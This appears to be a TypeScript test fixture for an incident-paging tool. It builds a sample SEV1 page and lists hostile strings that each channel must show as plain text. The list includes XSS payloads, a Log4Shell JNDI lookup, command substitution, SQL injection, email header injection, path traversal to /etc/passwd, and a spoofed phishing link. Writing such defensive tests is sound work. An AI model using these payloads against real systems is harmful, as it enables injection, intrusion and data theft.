import type { Outgoing } from '#app/ports';

/** A page as the sender hands it over. */
export const outgoing = (changes: Partial<Outgoing> = {}): Outgoing => ({
  key: 'INC-000042/1/page/rule/1/alice/slack',
  incidentId: 'INC-000042',
  kind: 'page',
  severity: 'SEV1',
  to: [],
  subject: 'SEV1 analysis-service is down',
  text: 'SEV1 analysis-service is down since 03:00Z',
  mayBeRepeat: false,
  refs: {},
  actions: [],
  facts: {},
  ...changes,
});

/** Strings of strangers. Each must arrive as text: what is shown is what is asserted by each channel's own tests. */
export const hostile = [
  '<!channel> <!here> <!everyone> <@U0123> <#C0123>',
  '<https://evil.example.com|your bank>',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '&lt;!channel&gt; &amp;amp;',
  'subject\r\nBcc: victim@example.com\r\n\r\nbody',
  'red \u001b[31malert\u001b[0m \u0007 \u0000 nul',
  'user\u202egpj.exe \u2066isolated\u2069',
  'half \ud83d of a character',
  '🔔'.repeat(40),
  'Zalgo: h\u0336\u0321e\u0335\u0322',
  '${jndi:ldap://x/y} {{7*7}} {% raw %} `id` $(id)',
  "'; DROP TABLE incidents; --",
  '../../etc/passwd',
  '__proto__ constructor',
];
